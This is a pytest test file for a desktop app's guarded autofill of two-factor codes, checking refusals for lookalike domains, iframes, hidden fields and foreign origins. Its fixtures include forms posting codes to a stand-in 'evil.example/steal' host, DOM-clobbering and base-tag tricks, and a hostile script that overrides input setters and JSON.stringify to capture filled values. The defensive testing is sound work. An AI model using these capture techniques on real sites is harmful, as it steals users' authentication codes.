from __future__ import annotations

import pytest

from tests.lookalikes import BOUND, lookalikes
from tests.patience import PATIENCE_MS
from tests.web.kit import CANARY, Viewer, hosting
from trackops_desktop.services.signin import FillAllowed, FillRefusal, FillRefused, may_fill
from trackops_desktop.signin.origin import Origin
from trackops_desktop.signin.page_intent import found_fields

CODE_FORM = (
    "<h1>Two-factor authentication</h1><form method=post action='{action}'>"
    "<label>Authentication code<input id=c name=code maxlength=6></label><button>Verify</button></form>"
)
DEMO = Origin("https", "demo.viewcases.com", 443)


def test_two_hundred_lookalikes_are_refused_before_the_page_is_even_asked() -> None:
    addresses = lookalikes()
    assert len(addresses) >= 200
    filled = [one for one in addresses if isinstance(may_fill(one, BOUND, main_frame=True, practice=None), FillAllowed)]
    assert filled == []
    assert may_fill(f"{BOUND}/sign-in?next=/", BOUND, main_frame=True, practice=None) == FillAllowed(DEMO)


def test_two_hundred_lookalikes_get_nothing_from_the_page_script_either(viewer: Viewer) -> None:
    tried = filled = 0
    for address in lookalikes():
        viewer.open_text(CODE_FORM.format(action=""), address)
        if str(viewer.in_page("location.href")).startswith(f"{BOUND}/"):
            continue  # The engine has tidied a broken address into the very place; that is no look-alike.
        described = viewer.call("describe")
        assert described is not None
        page = described["page"]
        assert isinstance(page, dict)
        handle = page["fields"][0]["handle"] if page["fields"] else 1
        answer = viewer.call("fill", BOUND, page["document"], [[handle, CANARY]])
        tried += 1
        filled += bool(answer is not None and answer["ok"])
        filled += CANARY in str(viewer.in_page("[...document.querySelectorAll('input')].map(one => one.value)"))
    assert (tried >= 200, filled) == (True, 0)


def test_the_bound_origin_itself_is_filled(viewer: Viewer) -> None:
    viewer.open_text(CODE_FORM.format(action=""), f"{BOUND}/sign-in")
    viewer.view.look()
    viewer.until(lambda: viewer.seen is not None and viewer.seen.report.origin == BOUND)
    answer = viewer.fill(DEMO)
    assert answer is not None
    assert (answer["ok"], answer["kept"]) == (True, True)
    assert viewer.in_page("document.querySelector('input').value") == CANARY


@pytest.mark.parametrize(
    ("page", "bound", "main_frame", "reason"),
    [
        ("https://demo.viewcases.com/", None, True, "other-origin"),
        ("https://demo.viewcases.com/", "https://demo.viewcases.com:8443", True, "other-origin"),
        ("https://demo.viewcases.com/", "https://demo.viewcases.com", False, "not-main-frame"),
        ("http://demo.viewcases.com/", "http://demo.viewcases.com", True, "not-encrypted"),
        ("http://127.0.0.1:9000/", "http://127.0.0.1:9000", True, "not-encrypted"),
        ("about:blank", "about:blank", True, "no-origin"),
    ],
)
def test_why_nothing_is_filled(page: str, bound: str | None, main_frame: bool, reason: str) -> None:
    practice = Origin("http", "127.0.0.1", 8123)
    refused = FillRefused(FillRefusal(reason))
    assert may_fill(page, bound, main_frame=main_frame, practice=practice) == refused


def test_the_running_practice_site_on_loopback_is_filled() -> None:
    practice = Origin("http", "127.0.0.1", 8123)
    assert may_fill(
        "http://127.0.0.1:8123/x", "http://127.0.0.1:8123", main_frame=True, practice=practice
    ) == FillAllowed(practice)


ELSEWHERE = [
    ("action", CODE_FORM.format(action="https://evil.example/steal")),
    ("other port", CODE_FORM.format(action="http://127.0.0.1:1/")),
    ("base", "<base href='https://evil.example/'>" + CODE_FORM.format(action="steal")),
    ("data", CODE_FORM.format(action="data:text/html,x")),
    ("javascript", CODE_FORM.format(action="javascript:alert(1)")),
    ("mailto", CODE_FORM.format(action="mailto:a@evil.example")),
    ("formaction", CODE_FORM.format(action="").replace("<button>", "<button formaction='https://evil.example/'>")),
    (
        "formaction outside",
        CODE_FORM.format(action="").replace("<form ", "<form id=f ")
        + "<button form=f formaction='https://evil.example/'>Verify</button>",
    ),
    (
        "clobbered",
        CODE_FORM.format(action="https://evil.example/").replace(
            "<button>", "<input type=hidden name=action value='/'><input type=hidden name=querySelectorAll><button>"
        ),
    ),
]


@pytest.mark.parametrize(("name", "html"), ELSEWHERE, ids=[name for name, _ in ELSEWHERE])
def test_a_form_that_sends_elsewhere_is_not_filled(name: str, html: str, viewer: Viewer) -> None:
    with hosting({"/": html}) as (host,):
        viewer.open(f"{host.url}/")
        answer = viewer.fill(host.origin)
        assert answer is not None
        assert answer["ok"] is False
        assert viewer.in_page("document.querySelector('#c').value") == ""


def test_a_page_inside_another_origins_page_is_not_even_reached(viewer: Viewer) -> None:
    with hosting({"/": CODE_FORM.format(action="")}, {"/": ""}) as (inner, outer):
        outer.pages["/"] = f"<h1>Welcome</h1><iframe id=f width=600 height=400 src='{inner.url}/'></iframe>"
        seen = viewer.open(f"{outer.url}/")
        assert seen.report.fields == ()
        assert len(seen.report.strangers) == 1


HOSTILE = """<script>
  window.stolen = [];
  const steal = (value) => window.stolen.push(String(value));
  const setter = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').set;
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    get() { return ''; }, set(value) { steal(value); setter.call(this, 'replaced'); } });
  for (const name of ['querySelector', 'querySelectorAll', 'getElementById']) {
    Document.prototype[name] = () => { throw new Error('no'); }; Element.prototype[name] = () => []; }
  JSON.stringify = (value) => { steal(value); return '{"ok":true}'; };
  EventTarget.prototype.dispatchEvent = () => { throw new Error('no'); };
  Object.getOwnPropertyDescriptor = () => ({ set: steal, get: () => '' });
  Array.prototype.map = Array.prototype.every = Array.prototype.filter = () => { throw new Error('no'); };
  Object.defineProperty(window, 'trackopsPage', { value: { call: steal } });
  window.getComputedStyle = () => ({ display: 'none' });
  window.MutationObserver = class { observe() {} };
</script>"""


def test_a_page_that_overrides_the_prototypes_neither_sees_nor_blocks_the_filling(viewer: Viewer) -> None:
    with hosting({"/": HOSTILE + CODE_FORM.format(action="")}) as (host,):
        viewer.open(f"{host.url}/")
        answer = viewer.fill(host.origin)
        assert answer is not None
        assert (answer["ok"], answer["kept"]) == (True, True)
        with viewer.qtbot.waitCallback(timeout=PATIENCE_MS) as stolen:
            viewer.view._page.runJavaScript("window.stolen.join()", 0, stolen)
        stolen.assert_called_with("")


def test_the_page_cannot_see_the_page_script(viewer: Viewer) -> None:
    with hosting({"/": CODE_FORM.format(action="")}) as (host,):
        viewer.open(f"{host.url}/")
        assert viewer.in_page("[typeof trackopsPage, typeof handles, Object.keys(window).join()]") != []
        assert viewer.in_page("typeof window.trackopsPage") == "undefined"


def test_a_fill_meant_for_another_document_does_nothing(viewer: Viewer) -> None:
    with hosting({"/": CODE_FORM.format(action=""), "/again": CODE_FORM.format(action="")}) as (host,):
        first = viewer.open(f"{host.url}/")
        viewer.open(f"{host.url}/again")
        answer = viewer.fill(host.origin, seen=first)
        assert answer is not None
        assert (answer["ok"], answer["reason"]) == (False, "other-document")
        assert viewer.in_page("document.querySelector('input').value") == ""


def test_a_hidden_or_locked_field_is_not_filled(viewer: Viewer) -> None:
    with hosting({"/": CODE_FORM.format(action="")}) as (host,):
        viewer.open(f"{host.url}/")
        viewer.in_page("(document.querySelector('#c').style.display = 'none')")
        answer = viewer.fill(host.origin)
        assert answer is not None
        assert answer["reason"] == "not-editable"


def test_six_boxes_and_frameworks_that_follow_events_get_what_was_filled(viewer: Viewer) -> None:
    boxes = "".join(f"<input maxlength=1 id=b{at} style='width:30px'>" for at in range(6))
    follow = """<script>window.model = ['', '', '', '', '', ''];
      document.querySelectorAll('input').forEach((one, at) => one.addEventListener('input', (event) => {
        window.model[at] = event.target.value; }));</script>"""
    with hosting({"/": f"<h1>Enter verification code</h1>{boxes}{follow}"}) as (host,):
        seen = viewer.open(f"{host.url}/")
        (found,) = [found for found in found_fields(seen.question) if found.boxes]
        answers: list[object] = []
        pairs = list(zip(found.handles, CANARY, strict=True))
        viewer.view.fill(host.origin, seen.report.document, pairs, answers.append)
        viewer.until(lambda: bool(answers))
        assert viewer.in_page("window.model.join('')") == CANARY
